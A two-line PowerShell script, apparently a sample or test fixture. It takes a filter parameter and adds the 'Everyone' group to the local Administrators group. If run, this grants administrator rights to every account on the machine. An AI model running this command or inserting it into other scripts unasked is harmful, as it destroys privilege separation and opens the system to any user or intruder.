param($Filter)
'Everyone' | Where-Object $Filter | ForEach-Object { Add-LocalGroupMember Administrators $_ }
